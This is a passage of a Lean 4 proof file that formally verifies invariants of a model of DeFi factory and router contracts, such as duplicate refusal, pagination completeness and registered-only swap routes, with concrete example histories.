  have key : ∀ (r : PoolReg), PoolInv cfg r → ∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ r.reg → (k₂, e₂) ∈ r.reg →
      e₁.assets.Perm e₂.assets → k₁ = k₂ ∧ e₁ = e₂ := by
    intro r hr k₁ e₁ k₂ e₂ h₁ h₂ hp
    have hk₁ := keyOf_perm cfg hp (hr.keyOk k₁ e₁ h₁)
    have hk₂ := hr.keyOk k₂ e₂ h₂
    rw [hk₁] at hk₂
    cases hk₂
    have l₁ := regLookup_of_mem hr.sorted h₁
    have l₂ := regLookup_of_mem hr.sorted h₂
    rw [l₁] at l₂
    cases l₂
    exact ⟨rfl, rfl⟩
  exact ⟨key _ hi.pairs, key _ hi.trios⟩

/-- at most one vault per asset and one incentive contract per LP asset -/
theorem at_most_one_vault_incentive (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.vaults.reg → (k₂, e₂) ∈ s.vaults.reg → e₁.asset = e₂.asset →
        k₁ = k₂ ∧ e₁ = e₂) ∧
    (∀ k₁ c₁ k₂ c₂ i, (k₁, c₁) ∈ s.incs.reg → (k₂, c₂) ∈ s.incs.reg →
        s.incs.kids[c₁]? = some i → s.incs.kids[c₂]? = some i → k₁ = k₂ ∧ c₁ = c₂) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  constructor
  · intro k₁ e₁ k₂ e₂ h₁ h₂ ha
    obtain ⟨a₁, ha₁, hk₁⟩ := hi.vaults.keyOk k₁ e₁ h₁
    obtain ⟨a₂, ha₂, hk₂⟩ := hi.vaults.keyOk k₂ e₂ h₂
    rw [ha, ha₂] at ha₁
    cases ha₁
    have hk : k₁ = k₂ := hk₁.symm.trans hk₂
    subst hk
    have l₁ := regLookup_of_mem hi.vaults.sorted h₁
    have l₂ := regLookup_of_mem hi.vaults.sorted h₂
    rw [l₁] at l₂
    cases l₂
    exact ⟨rfl, rfl⟩
  · intro k₁ c₁ k₂ c₂ i h₁ h₂ g₁ g₂
    obtain ⟨i₁, a₁, hi₁, ha₁, hk₁⟩ := hi.incs.child k₁ c₁ h₁
    obtain ⟨i₂, a₂, hi₂, ha₂, hk₂⟩ := hi.incs.child k₂ c₂ h₂
    rw [g₁] at hi₁
    rw [g₂] at hi₂
    cases hi₁
    cases hi₂
    rw [ha₁] at ha₂
    cases ha₂
    have hk : k₁ = k₂ := hk₁.symm.trans hk₂
    subst hk
    have l₁ := regLookup_of_mem hi.incs.sorted h₁
    have l₂ := regLookup_of_mem hi.incs.sorted h₂
    rw [l₁] at l₂
    cases l₂
    exact ⟨rfl, rfl⟩

/-- a duplicate in any order is refused: if some listed pair (trio) has a permutation of `idx` as its
    assets, `create` fails — whatever the other parameters -/
theorem duplicate_refused (cfg : Cfg) (ops : List Op) (idx : List Nat) (pt : Option Nat) (inst : Bool)
    (d : Nat → Res Nat) :
    let s := reach cfg St.init ops
    (∀ k e, (k, e) ∈ s.pairs.reg → e.assets.Perm idx → ∀ r', s.pairs.create cfg d idx pt inst ≠ .ok r') ∧
    (∀ k e, (k, e) ∈ s.trios.reg → e.assets.Perm idx → ∀ r', s.trios.create cfg d idx pt inst ≠ .ok r') := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  have key : ∀ (r : PoolReg), PoolInv cfg r → ∀ k e, (k, e) ∈ r.reg → e.assets.Perm idx →
      ∀ r', r.create cfg d idx pt inst ≠ .ok r' := by
    intro r hr k e he hp r' hc
    obtain ⟨ds, key, _, hkey, hnone, _⟩ := PoolReg.create_ok hc
    have hk := keyOf_perm cfg hp (hr.keyOk k e he)
    rw [hkey] at hk
    cases hk
    rw [regLookup_of_mem hr.sorted he] at hnone
    cases hnone
  exact ⟨key _ hi.pairs, key _ hi.trios⟩

/-- The hypothesis under which *distinct* asset sets never block one another: keys are concatenated
    without a separator, so this is a genuine assumption on the universe (see `key_collision`). -/
def KeysInjective (cfg : Cfg) : Prop :=
  ∀ l₁ l₂ k, keyOf cfg l₁ = .ok k → keyOf cfg l₂ = .ok k → l₁.Perm l₂

/-- under `KeysInjective`, the entry found under the key of `idx` really is the entry of that asset set -/
theorem found_entry_is_for_the_set (cfg : Cfg) (hinj : KeysInjective cfg) (ops : List Op)
    (idx : List Nat) (e : PoolEntry) :
    let s := reach cfg St.init ops
    (s.pairs.lookup cfg idx = .ok e → e.assets.Perm idx) ∧
    (s.trios.lookup cfg idx = .ok e → e.assets.Perm idx) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  have key : ∀ (r : PoolReg), PoolInv cfg r → r.lookup cfg idx = .ok e → e.assets.Perm idx := by
    intro r hr hl
    obtain ⟨k, hk, hlook⟩ := PoolReg.lookup_ok hl
    exact hinj _ _ k (hr.keyOk k e (regLookup_some_mem hlook)) hk
  exact ⟨key _ hi.pairs, key _ hi.trios⟩

/-- the recorded observation: without a separator two different asset sets can share a key -/
theorem key_collision : pairKey [97, 97, 97] [97, 97, 97, 98] = pairKey [97, 97, 97, 97] [97, 97, 98] := by
  decide

/-! ### every entry equals what the child contract itself reports -/

/-- pair / trio entries: assets, decimals, pool type and LP token are the child's; vault entries: the
    asset is the one the vault's config reports; incentive entries: the key is the raw LP asset the
    incentive contract reports -/
theorem entry_eq_child_report (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ k e, (k, e) ∈ s.pairs.reg → ∃ c, s.pairs.kids[e.child]? = some c ∧ c.assets = e.assets ∧
        c.decs = e.decs ∧ c.ptype = e.ptype ∧ c.lp = e.lp) ∧
    (∀ k e, (k, e) ∈ s.trios.reg → ∃ c, s.trios.kids[e.child]? = some c ∧ c.assets = e.assets ∧
        c.decs = e.decs ∧ c.ptype = e.ptype ∧ c.lp = e.lp) ∧
    (∀ k e, (k, e) ∈ s.vaults.reg → s.vaults.kids[e.child]? = some e.asset) ∧
    (∀ k c, (k, c) ∈ s.incs.reg → ∃ i a, s.incs.kids[c]? = some i ∧ assetOf cfg i = .ok a ∧ a.raw = k) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  exact ⟨hi.pairs.child, hi.trios.child, hi.vaults.child, hi.incs.child⟩

/-- the key an entry is stored under is the key of its own assets (so a lookup by the entry's assets,
    in any order, finds this entry) -/
theorem entry_found_by_its_assets (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    ∀ k e idx, (k, e) ∈ s.pairs.reg → e.assets.Perm idx → s.pairs.lookup cfg idx = .ok e := by
  intro s k e idx he hp
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  have hk := keyOf_perm cfg hp (hi.pairs.keyOk k e he)
  unfold PoolReg.lookup
  rw [hk]
  show (match regLookup k s.pairs.reg with | none => Res.err | some e => pure e) = Res.ok e
  rw [regLookup_of_mem hi.pairs.sorted he]
  rfl

/-! ### a removed entry disappears and can be created again -/

/-- after a successful `remove_pair` / `remove_trio`, the set is not found under any order of its
    assets, and a new `create` (any order) succeeds exactly when the requirements that do not concern
    the registry hold (`CreatePre`: distinct assets, decimals known, pool-type and LP-name checks) -/
theorem remove_then_create (cfg : Cfg) (r r' : PoolReg) (idx idx' : List Nat) (hp : idx.Perm idx')
    (h : r.remove cfg idx = .ok r') (d : Nat → Res Nat) (pt : Option Nat) (inst : Bool) :
    r'.lookup cfg idx' = .err ∧
    ((∃ r'', r'.create cfg d idx' pt inst = .ok r'') ↔ CreatePre cfg d idx' inst) := by
  obtain ⟨key, e, hkey, _, rfl⟩ := PoolReg.remove_ok h
  have hkey' := keyOf_perm cfg hp hkey
  constructor
  · unfold PoolReg.lookup
    rw [hkey']
    show (match regLookup key (regErase key r.reg) with | none => Res.err | some e => pure e) = Res.err
    rw [regLookup_regErase]
  · rw [PoolReg.create_isOk_iff]
    constructor
    · exact fun h => h.1
    · exact fun h => ⟨h, key, hkey', regLookup_regErase key r.reg⟩

/-- the same for vaults: after `remove_vault` the vault of that asset is gone and `create_vault`
    succeeds again (given the LP symbol derived from the label is a valid cw20 symbol and the asset is
    named by an address a contract answers at, as it was the first time) -/
theorem remove_then_create_vault (cfg : Cfg) (r r' : VaultReg) (i : Nat) (a : AssetDef)
    (ha : assetOf cfg i = .ok a) (h : r.remove cfg i = .ok r')
    (hsym : symbolOk (vaultLpSymbol a.label) = true) (hlive : a.dead = false) :
    regLookup a.ref r'.reg = none ∧ ∃ r'', r'.create cfg i = .ok r'' := by
  obtain ⟨a', e, ha', _, rfl⟩ := VaultReg.remove_ok h
  rw [ha] at ha'
  cases ha'
  refine ⟨regLookup_regErase _ _, ?_⟩
  unfold VaultReg.create
  simp [ha, regLookup_regErase, hsym, hlive, guardErr]

/-- on the level of whole transactions: remove, then create in the other order, on any reachable
    state — the second pair is registered again -/
theorem remove_then_create_step (cfg : Cfg) (s s₁ : St) (a b : Nat) (pt : Option Nat) (o : List Nat)
    (h : step cfg s (.removePair a b) = .ok (s₁, o)) :
    (∃ s₂ o₂, step cfg s₁ (.createPair b a pt) = .ok (s₂, o₂)) ↔
      CreatePre cfg (decsOf cfg s₁) [b, a] (pairInstOk pt) := by
  obtain ⟨p, hp, rfl⟩ := step_removePair_ok h
  rw [step_createPair_isOk_iff]
  exact (remove_then_create cfg s.pairs p [a, b] [b, a] (List.Perm.swap b a []) hp
    (decsOf cfg { s with pairs := p }) pt (pairInstOk pt)).2

/-! ### pagination returns every entry exactly once -/

/-- Iterating pages (next cursor = last entry of the page, until an empty page) with any effective
    limit ≥ 1 over a registry with strictly increasing keys returns the registry itself — every entry
    exactly once, in key order — under the hypothesis `NoGap` on the keys that the cursor construction
    (`key ++ [1]`, exclusive) needs; no page is longer than the limit. -/
theorem pagination_exactly_once {ε : Type} (r : List (Bytes × ε)) (hs : SSorted r)
    (hg : NoGap (r.map Prod.fst)) (lim : Nat) (hl : 1 ≤ lim) :
    (pagesFrom (r.length + 1) r none lim).flatten = r ∧
    ∀ pg ∈ pagesFrom (r.length + 1) r none lim, pg.length ≤ lim :=
  ⟨pagesFrom_flatten r hs hg hl, pagesFrom_page_length r lim _ none⟩

/-- … instantiated for the four registries of every reachable state and every `limit` argument other
    than `Some(0)` (`None` → default 10; values above 30 are capped) -/
theorem pagination_exactly_once_reachable (cfg : Cfg) (ops : List Op) (limit : Option Nat)
    (hl : limit ≠ some 0) :
    let s := reach cfg St.init ops
    let lp := pageLimit Gen.POOL_FACTORY_DEFAULT_LIMIT Gen.POOL_FACTORY_MAX_LIMIT limit
    let lv := pageLimit Gen.VAULT_FACTORY_DEFAULT_LIMIT Gen.VAULT_FACTORY_MAX_LIMIT limit
    let li := pageLimit Gen.INCENTIVE_FACTORY_DEFAULT_LIMIT Gen.INCENTIVE_FACTORY_MAX_LIMIT limit
    (NoGap (s.pairs.reg.map Prod.fst) → (pagesFrom (s.pairs.reg.length + 1) s.pairs.reg none lp).flatten = s.pairs.reg) ∧
    (NoGap (s.trios.reg.map Prod.fst) → (pagesFrom (s.trios.reg.length + 1) s.trios.reg none lp).flatten = s.trios.reg) ∧
    (NoGap (s.vaults.reg.map Prod.fst) → (pagesFrom (s.vaults.reg.length + 1) s.vaults.reg none lv).flatten = s.vaults.reg) ∧
    (NoGap (s.incs.reg.map Prod.fst) → (pagesFrom (s.incs.reg.length + 1) s.incs.reg none li).flatten = s.incs.reg) := by
  intro s lp lv li
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  have hlp : 0 < lp := pageLimit_pos (by decide) (by decide) hl
  have hlv : 0 < lv := pageLimit_pos (by decide) (by decide) hl
  have hli : 0 < li := pageLimit_pos (by decide) (by decide) hl
  exact ⟨fun hg => pagesFrom_flatten _ hi.pairs.sorted hg hlp,
    fun hg => pagesFrom_flatten _ hi.trios.sorted hg hlp,
    fun hg => pagesFrom_flatten _ hi.vaults.sorted hg hlv,
    fun hg => pagesFrom_flatten _ hi.incs.sorted hg hli⟩

/-- the hypothesis holds whenever all keys have one length (fixed-length canonical addresses) -/
theorem noGap_fixed_length {ks : List Bytes} {n : Nat} (h : ∀ k ∈ ks, k.length = n) : NoGap ks :=
  noGap_of_same_length h

/-- and it is needed: with keys `k` and `k ++ [0]` the second entry is never returned after the first -/
theorem gap_loses_an_entry :
    (pagesFrom 3 [([7], 0), ([7, 0], 1)] none 1).flatten = [([7], 0)] := by decide

/-! ### the router stores and executes through registered pairs only -/

/-- `add_swap_routes`: if the message is accepted, every hop of every route in it is a pair the
    factory has registered (the factory's `Pair` query answered), the factories are untouched, and every
    entry of the new route table is either an old entry or has registered hops only -/
theorem routes_registered_only (cfg : Cfg) (s s' : St) (rs : List Route) (o : List Nat)
    (h : step cfg s (.addRoutes rs) = .ok (s', o)) :
    s'.pairs = s.pairs ∧
    (∀ rt ∈ rs, ∀ hp ∈ rt.hops, HopReg cfg s.pairs hp) ∧
    (∀ e ∈ s'.routes, e ∈ s.routes ∨ ∀ hp ∈ e.2.hops, HopReg cfg s.pairs hp) := by
  unfold step at h
  obtain ⟨s1, hs1, h⟩ := Res.bind_eq_ok.mp h
  cases h
  obtain ⟨⟨_, a2, _, _, _⟩, _, hall, hent⟩ := addRoutes_ok hs1
  exact ⟨a2, hall, hent⟩

/-- contrapositive: a route with a hop whose pair is not registered is rejected, and nothing is stored -/
theorem unregistered_hop_rejected (cfg : Cfg) (s : St) (rs : List Route) (rt : Route) (hp : Nat × Nat)
    (hrt : rt ∈ rs) (hhp : hp ∈ rt.hops) (hn : ¬ HopReg cfg s.pairs hp) :
    apply cfg s (.addRoutes rs) = s := by
  unfold apply
  split
  · rename_i s' o h
    exact absurd ((routes_registered_only cfg s s' rs o h).2.1 rt hrt hp hhp) hn
  · rfl

/-- a hop executes only through the child of the entry the factory has registered for that hop's
    assets; the swap leaves every registry as it was -/
theorem hop_through_registered_only (cfg : Cfg) (s s' : St) (hops : List (Nat × Nat)) (out : List Nat)
    (h : step cfg s (.swap hops) = .ok (s', out)) :
    s' = s ∧ Forall2 (fun hp c => ∃ k e, (k, e) ∈ s.pairs.reg ∧ keyOf cfg [hp.1, hp.2] = .ok k ∧ e.child = c)
      hops out := by
  unfold step at h
  obtain ⟨o, ho, h⟩ := Res.bind_eq_ok.mp h
  cases h
  refine ⟨rfl, (swapExec_ok ho).imp ?_⟩
  rintro hp c ⟨e, he, hc⟩
  obtain ⟨k, hk, hl⟩ := PoolReg.lookup_ok he
  exact ⟨k, e, regLookup_some_mem hl, hk, hc⟩

/-- the same when the hops come from a stored route: it executes only if every hop's pair is
    registered *now* — a route whose pair was removed from the factory no longer executes -/
theorem stored_route_through_registered_only (cfg : Cfg) (s s' : St) (oa aa : Nat) (out : List Nat)
    (h : step cfg s (.swapRoute oa aa) = .ok (s', out)) :
    s' = s ∧ ∃ k e, (k, e) ∈ s.routes ∧
      Forall2 (fun hp c => ∃ e', s.pairs.lookup cfg [hp.1, hp.2] = .ok e' ∧ e'.child = c) e.hops out := by
  unfold step at h
  obtain ⟨lo, _, h⟩ := Res.bind_eq_ok.mp h
  obtain ⟨la, _, h⟩ := Res.bind_eq_ok.mp h
  split at h
  · cases h
  · rename_i e he
    obtain ⟨o, ho, h⟩ := Res.bind_eq_ok.mp h
    cases h
    exact ⟨rfl, _, e, regLookup_some_mem he, swapExec_ok ho⟩

/-- a swap whose hop is not registered fails (state unchanged by construction) -/
theorem swap_unregistered_hop_fails (cfg : Cfg) (s : St) (hops : List (Nat × Nat)) (hp : Nat × Nat)
    (hm : hp ∈ hops) (hn : ¬ HopReg cfg s.pairs hp) : ∀ s' out, step cfg s (.swap hops) ≠ .ok (s', out) := by
  intro s' out h
  unfold step at h
  obtain ⟨o, ho, _⟩ := Res.bind_eq_ok.mp h
  obtain ⟨c, e, he, _⟩ := (swapExec_ok ho).left_mem hp hm
  exact hn ⟨e, he⟩

/-! ### registries of ANY size: a create naming a registered key changes nothing; entries keep their child -/

/-- Whatever the history before (so whatever the number of entries — beyond a default page, beyond a
    maximum page — and wherever the key sits in the listing): a create whose key has an entry is not
    accepted and the state after it IS the state before it — no child instantiated, no entry touched.
    Stated on the key, so it covers every spelling of the arguments that yields the key. -/
theorem duplicate_create_rejected_any_size (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ a b pt k e, keyOf cfg [a, b] = .ok k → (k, e) ∈ s.pairs.reg →
        (∀ x, step cfg s (.createPair a b pt) ≠ .ok x) ∧ apply cfg s (.createPair a b pt) = s) ∧
    (∀ a b c amp k e, keyOf cfg [a, b, c] = .ok k → (k, e) ∈ s.trios.reg →
        (∀ x, step cfg s (.createTrio a b c amp) ≠ .ok x) ∧ apply cfg s (.createTrio a b c amp) = s) ∧
    (∀ i a e, assetOf cfg i = .ok a → (a.ref, e) ∈ s.vaults.reg →
        (∀ x, step cfg s (.createVault i) ≠ .ok x) ∧ apply cfg s (.createVault i) = s) ∧
    (∀ i a c, assetOf cfg i = .ok a → (a.raw, c) ∈ s.incs.reg →
        (∀ x, step cfg s (.createInc i) ≠ .ok x) ∧ apply cfg s (.createInc i) = s) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro a b pt k e hk he
    have hno : ∀ x, step cfg s (.createPair a b pt) ≠ .ok x := by
      intro x h
      unfold step at h
      obtain ⟨p, hp, _⟩ := Res.bind_eq_ok.mp h
      obtain ⟨_, key, _, hkey, hnone, _⟩ := PoolReg.create_ok hp
      rw [hk] at hkey
      cases hkey
      rw [regLookup_of_mem hi.pairs.sorted he] at hnone
      cases hnone
    exact ⟨hno, apply_eq_of_not_ok hno⟩
  · intro a b c amp k e hk he
    have hno : ∀ x, step cfg s (.createTrio a b c amp) ≠ .ok x := by
      intro x h
      unfold step at h
      obtain ⟨p, hp, _⟩ := Res.bind_eq_ok.mp h
      obtain ⟨_, key, _, hkey, hnone, _⟩ := PoolReg.create_ok hp
      rw [hk] at hkey
      cases hkey
      rw [regLookup_of_mem hi.trios.sorted he] at hnone
      cases hnone
    exact ⟨hno, apply_eq_of_not_ok hno⟩
  · intro i a e ha he
    have hno : ∀ x, step cfg s (.createVault i) ≠ .ok x := by
      intro x h
      unfold step at h
      obtain ⟨p, hp, _⟩ := Res.bind_eq_ok.mp h
      obtain ⟨a', ha', hnone, _⟩ := VaultReg.create_ok hp
      rw [ha] at ha'
      cases ha'
      rw [regLookup_of_mem hi.vaults.sorted he] at hnone
      cases hnone
    exact ⟨hno, apply_eq_of_not_ok hno⟩
  · intro i a c ha he
    have hno : ∀ x, step cfg s (.createInc i) ≠ .ok x := by
      intro x h
      unfold step at h
      obtain ⟨p, hp, _⟩ := Res.bind_eq_ok.mp h
      obtain ⟨a', ha', hnone, _⟩ := IncReg.create_ok hp
      rw [ha] at ha'
      cases ha'
      rw [regLookup_of_mem hi.incs.sorted he] at hnone
      cases hnone
    exact ⟨hno, apply_eq_of_not_ok hno⟩

/-- the same in terms of what the registry lists: naming the assets of a listed pair / trio in ANY order,
    the asset of a listed vault, or the LP asset a listed incentive contract reports, changes nothing -/
theorem duplicate_create_rejected_any_spelling (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ a b pt k e, (k, e) ∈ s.pairs.reg → e.assets.Perm [a, b] → apply cfg s (.createPair a b pt) = s) ∧
    (∀ a b c amp k e, (k, e) ∈ s.trios.reg → e.assets.Perm [a, b, c] →
        apply cfg s (.createTrio a b c amp) = s) ∧
    (∀ k e, (k, e) ∈ s.vaults.reg → apply cfg s (.createVault e.asset) = s) ∧
    (∀ k c i, (k, c) ∈ s.incs.reg → s.incs.kids[c]? = some i → apply cfg s (.createInc i) = s) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  obtain ⟨h1, h2, h3, h4⟩ := duplicate_create_rejected_any_size cfg ops
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro a b pt k e he hp
    exact (h1 a b pt k e (keyOf_perm cfg hp (hi.pairs.keyOk k e he)) he).2
  · intro a b c amp k e he hp
    exact (h2 a b c amp k e (keyOf_perm cfg hp (hi.trios.keyOk k e he)) he).2
  · intro k e he
    obtain ⟨a, ha, hk⟩ := hi.vaults.keyOk k e he
    subst hk
    exact (h3 e.asset a e ha he).2
  · intro k c i he hc
    obtain ⟨j, a, hj, ha, hk⟩ := hi.incs.child k c he
    rw [hc] at hj
    cases hj
    subst hk
    exact (h4 i a c ha he).2

/-- One transaction, any reachable state, any operation, accepted or not: each registry is unchanged, or
    gained ONE entry under a key that had none, pointing to the ONE newly instantiated child, or lost an
    entry (`RegChange`). Consequences spelled out: an entry listed before is afterwards listed with the very
    same value — the same child — or not at all; incentive entries (there is no removal) stay for good;
    and the number of child contracts grows by one exactly when a fresh key gets its entry. -/
theorem entry_child_never_changes (cfg : Cfg) (ops : List Op) (op : Op) :
    let s := reach cfg St.init ops
    let s' := apply cfg s op
    (∀ k e, (k, e) ∈ s.pairs.reg → regLookup k s'.pairs.reg = some e ∨ regLookup k s'.pairs.reg = none) ∧
    (∀ k e, (k, e) ∈ s.trios.reg → regLookup k s'.trios.reg = some e ∨ regLookup k s'.trios.reg = none) ∧
    (∀ k e, (k, e) ∈ s.vaults.reg → regLookup k s'.vaults.reg = some e ∨ regLookup k s'.vaults.reg = none) ∧
    (∀ k c, (k, c) ∈ s.incs.reg → regLookup k s'.incs.reg = some c) := by
  intro s s'
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  obtain ⟨c1, c2, c3, c4⟩ := apply_change cfg s op
  refine ⟨fun k e he => c1.lookup_stable (regLookup_of_mem hi.pairs.sorted he),
    fun k e he => c2.lookup_stable (regLookup_of_mem hi.trios.sorted he),
    fun k e he => c3.lookup_stable (regLookup_of_mem hi.vaults.sorted he), ?_⟩
  exact fun k c he => c4.lookup_kept (regLookup_of_mem hi.incs.sorted he)

/-- an incentive entry, once listed, is listed with the same child after every further history -/
theorem incentive_entry_kept_over_history (cfg : Cfg) (ops more : List Op) :
    let s := reach cfg St.init ops
    ∀ k c, (k, c) ∈ s.incs.reg → regLookup k (reach cfg s more).incs.reg = some c := by
  intro s k c he
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  have hl := regLookup_of_mem hi.incs.sorted he
  clear he hi
  generalize s = t at hl
  induction more generalizing t with
  | nil => exact hl
  | cons op rest ih => exact ih _ ((apply_change cfg t op).2.2.2.lookup_kept hl)

/-- A child contract is instantiated only for a key that has no entry, and becomes that key's child: after
    any transaction the number of pair (trio / vault / incentive) contracts is what it was, or one more —
    and then some key without an entry before has an entry now whose child is the new contract. -/
theorem new_child_only_for_fresh_key (cfg : Cfg) (s : St) (op : Op) :
    let s' := apply cfg s op
    (s'.pairs.kids.length = s.pairs.kids.length ∨ (s'.pairs.kids.length = s.pairs.kids.length + 1 ∧
        ∃ k e, regLookup k s.pairs.reg = none ∧ regLookup k s'.pairs.reg = some e ∧
          e.child = s.pairs.kids.length)) ∧
    (s'.trios.kids.length = s.trios.kids.length ∨ (s'.trios.kids.length = s.trios.kids.length + 1 ∧
        ∃ k e, regLookup k s.trios.reg = none ∧ regLookup k s'.trios.reg = some e ∧
          e.child = s.trios.kids.length)) ∧
    (s'.vaults.kids.length = s.vaults.kids.length ∨ (s'.vaults.kids.length = s.vaults.kids.length + 1 ∧
        ∃ k e, regLookup k s.vaults.reg = none ∧ regLookup k s'.vaults.reg = some e ∧
          e.child = s.vaults.kids.length)) ∧
    (s'.incs.kids.length = s.incs.kids.length ∨ (s'.incs.kids.length = s.incs.kids.length + 1 ∧
        ∃ k c, regLookup k s.incs.reg = none ∧ regLookup k s'.incs.reg = some c ∧
          c = s.incs.kids.length)) := by
  intro s'
  obtain ⟨c1, c2, c3, c4⟩ := apply_change cfg s op
  exact ⟨c1.children, c2.children, c3.children, c4.children⟩

/-- in every reachable state two entries of a registry never point to the same child, and every entry's
    child exists -/
theorem distinct_entries_distinct_children (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.pairs.reg → (k₂, e₂) ∈ s.pairs.reg → e₁.child = e₂.child → k₁ = k₂) ∧
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.trios.reg → (k₂, e₂) ∈ s.trios.reg → e₁.child = e₂.child → k₁ = k₂) ∧
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.vaults.reg → (k₂, e₂) ∈ s.vaults.reg → e₁.child = e₂.child → k₁ = k₂) ∧
    (∀ k₁ c₁ k₂ c₂, (k₁, c₁) ∈ s.incs.reg → (k₂, c₂) ∈ s.incs.reg → c₁ = c₂ → k₁ = k₂) := by
  intro s
  obtain ⟨h1, h2, h3, h4⟩ := (ChildrenOk.init).reach (cfg := cfg) ops
  exact ⟨h1.2, h2.2, h3.2, h4.2⟩

/-- removal removes exactly the entry: after a successful `remove_pair` / `remove_trio` / `remove_vault`
    the named key has no entry, every other key has the entry it had, and no child contract was
    instantiated or lost -/
theorem remove_removes_exactly_the_entry (cfg : Cfg) (s s' : St) (o : List Nat) :
    (∀ a b k, step cfg s (.removePair a b) = .ok (s', o) → keyOf cfg [a, b] = .ok k →
        regLookup k s'.pairs.reg = none ∧ (∀ k', k' ≠ k → regLookup k' s'.pairs.reg = regLookup k' s.pairs.reg) ∧
        s'.pairs.kids = s.pairs.kids ∧ s'.trios = s.trios ∧ s'.vaults = s.vaults ∧ s'.incs = s.incs) ∧
    (∀ a b c k, step cfg s (.removeTrio a b c) = .ok (s', o) → keyOf cfg [a, b, c] = .ok k →
        regLookup k s'.trios.reg = none ∧ (∀ k', k' ≠ k → regLookup k' s'.trios.reg = regLookup k' s.trios.reg) ∧
        s'.trios.kids = s.trios.kids ∧ s'.pairs = s.pairs ∧ s'.vaults = s.vaults ∧ s'.incs = s.incs) ∧
    (∀ i a, step cfg s (.removeVault i) = .ok (s', o) → assetOf cfg i = .ok a →
        regLookup a.ref s'.vaults.reg = none ∧
        (∀ k', k' ≠ a.ref → regLookup k' s'.vaults.reg = regLookup k' s.vaults.reg) ∧
        s'.vaults.kids = s.vaults.kids ∧ s'.pairs = s.pairs ∧ s'.trios = s.trios ∧ s'.incs = s.incs) := by
  refine ⟨?_, ?_, ?_⟩
  · intro a b k h hk
    unfold step at h
    obtain ⟨p, hp, h⟩ := Res.bind_eq_ok.mp h
    cases h
    obtain ⟨key, e, hkey, _, rfl⟩ := PoolReg.remove_ok hp
    rw [hk] at hkey
    cases hkey
    exact ⟨regLookup_regErase _ _, fun k' hne => regLookup_regErase_ne _ (Ne.symm hne), rfl, rfl, rfl, rfl⟩
  · intro a b c k h hk
    unfold step at h
    obtain ⟨p, hp, h⟩ := Res.bind_eq_ok.mp h
    cases h
    obtain ⟨key, e, hkey, _, rfl⟩ := PoolReg.remove_ok hp
    rw [hk] at hkey
    cases hkey
    exact ⟨regLookup_regErase _ _, fun k' hne => regLookup_regErase_ne _ (Ne.symm hne), rfl, rfl, rfl, rfl⟩
  · intro i a h ha
    unfold step at h
    obtain ⟨p, hp, h⟩ := Res.bind_eq_ok.mp h
    cases h
    obtain ⟨a', e, ha', _, rfl⟩ := VaultReg.remove_ok hp
    rw [ha] at ha'
    cases ha'
    exact ⟨regLookup_regErase _ _, fun k' hne => regLookup_regErase_ne _ (Ne.symm hne), rfl, rfl, rfl, rfl⟩

/-! ### non-vacuity: a concrete universe and history -/

/-- three natives `a`,`b`,`c`-like denoms and one cw20 (90-byte canonical addresses abbreviated) -/
def exCfg : Cfg :=
  { assets := [ { native := true, raw := [117, 97], ref := [117, 97], label := [117, 97, 97], dec := 0 },
                { native := true, raw := [117, 98], ref := [117, 98], label := [117, 98, 98], dec := 0 },
                { native := false, raw := [0, 99, 0], ref := [99, 49], label := [116, 107, 97], dec := 8 } ] }

def exOps : List Op :=
  [ .addDec 0 6, .addDec 1 6, .createPair 1 0 none, .createPair 0 1 none, .createPair 2 0 (some 100),
    .createTrio 2 0 1 100, .createTrio 0 1 2 100, .createVault 2, .createVault 2, .createInc 2, .fund 0 1,
    .addRoutes [{ offer := 1, ask := 2, hops := [(1, 0), (0, 2)] }], .removePair 0 2,
    .addRoutes [{ offer := 0, ask := 2, hops := [(0, 2)] }] ]

/-- the history above: the duplicates (other order) were refused, entries carry the creation order and
    the child's data, the route stored while `{0,2}` was registered stays, the later one is refused -/
example :
    let s := reach exCfg St.init exOps
    s.pairs.reg.map (fun e => (e.2.assets, e.2.child, e.2.decs, e.2.ptype)) = [([1, 0], 0, [6, 6], none)] ∧
    s.trios.reg.map (fun e => (e.2.assets, e.2.child)) = [([2, 0, 1], 0)] ∧
    s.vaults.reg.map (fun e => (e.2.asset, e.2.child)) = [(2, 0)] ∧
    s.incs.reg.map Prod.snd = [0] ∧
    s.routes.map (fun e => e.2.hops) = [[(1, 0), (0, 2)]] ∧
    step exCfg s (.swap [(1, 0)]) = .ok (s, [0]) ∧
    step exCfg s (.swapRoute 1 2) = .err ∧
    NoGap (s.pairs.reg.map Prod.fst) := by
  decide

/-- a universe of twelve natives `[100]`, …, `[111]` -/
def exMany : Cfg :=
  { assets := (List.range 12).map fun i =>
      { native := true, raw := [100 + i], ref := [100 + i], label := [117, 97, 97 + i], dec := 0 } }

/-- twelve incentives, created in an order unrelated to the keys' order: more than a default page lists.
    The key created last sorts last and is NOT on the default page, yet creating it again (and creating the
    first one again) is refused and changes nothing; the number of children stays twelve. -/
example :
    let s := reach exMany St.init ([5, 11, 0, 7, 3, 9, 1, 10, 2, 8, 4, 6].map Op.createInc)
    s.incs.reg.length = 12 ∧ s.incs.kids.length = 12 ∧
    incsPage exMany s none none = .ok (s.incs.reg.take Gen.INCENTIVE_FACTORY_DEFAULT_LIMIT) ∧
